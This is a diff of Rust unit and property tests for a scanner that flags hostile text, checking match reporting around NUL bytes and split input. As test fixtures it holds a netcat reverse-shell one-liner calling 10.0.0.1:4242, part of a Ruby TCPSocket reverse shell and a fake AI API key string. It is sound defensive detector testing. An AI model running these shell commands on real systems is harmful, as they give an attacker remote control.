@@ -461,6 +461,25 @@ fn fragment() -> impl Strategy<Value = String> {
 }
 
 #[test]
+fn what_another_reading_sees_within_a_match_is_told_once() {
+    // The reading without the NUL begins behind the front of what the text itself shows.
+    for (shown, name) in [
+        ("mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc 10.0.0.1 4242 > /tmp/f", "reverse_shell"),
+        (
+            concat!("sk-ant-zzzzzzzzzzzzzzzzzzzzzzzzzzzzzz", "SK-LIVE-EXAMPLE_EXAMPLE_EXAMPLE"),
+            "ai_api_key",
+        ),
+    ] {
+        for blanks in 0..300 {
+            let text = format!("text: {shown} {}wo\0rd", " .".repeat(blanks));
+            assert_eq!(oracle(text.as_bytes()), [name]);
+            let seen = SCANNER.with(|scanner| scan_head(scanner, text.as_bytes()));
+            assert_eq!(seen.names(), [name], "{blanks}");
+        }
+    }
+}
+
+#[test]
 fn what_came_by_pieces_and_would_be_longer_in_one_is_told_apart() {
     let parts = [
         r#"text: ruby -rsocket -e "f=TCPSocket.open(\"10.0.0.1\",4242).to_i;exec "#,
@@ -488,13 +507,16 @@ proptest! {
         let text = format!("text: {}", fragments.concat()).into_bytes();
         let expected = oracle(&text);
         let head = SCANNER.with(|scanner| scan_head(scanner, &text));
-        prop_assert_eq!(head.plain_names(), expected.clone());
+        // What goes on at the end of a window another reading of it may tell first.
+        if head.names() != expected {
+            prop_assert_eq!(head.plain_names(), expected.clone());
+        }
         let mut places: Vec<usize> = cuts.iter().map(|cut| cut.index(text.len() + 1)).collect();
         places.extend([0, text.len()]);
         places.sort_unstable();
         let pieces: Vec<&[u8]> = places.windows(2).map(|ends| &text[ends[0]..ends[1]]).collect();
         let seen = SCANNER.with(|scanner| scan_pieces(scanner, &pieces));
-        if seen.plain_names() != oracle_of_pieces(&text, &places) {
+        if seen.names() != expected && seen.plain_names() != oracle_of_pieces(&text, &places) {
             prop_assert_eq!(seen.plain_names(), expected, "{:?}", pieces);
         }
         for (_, snippet) in &seen.found {
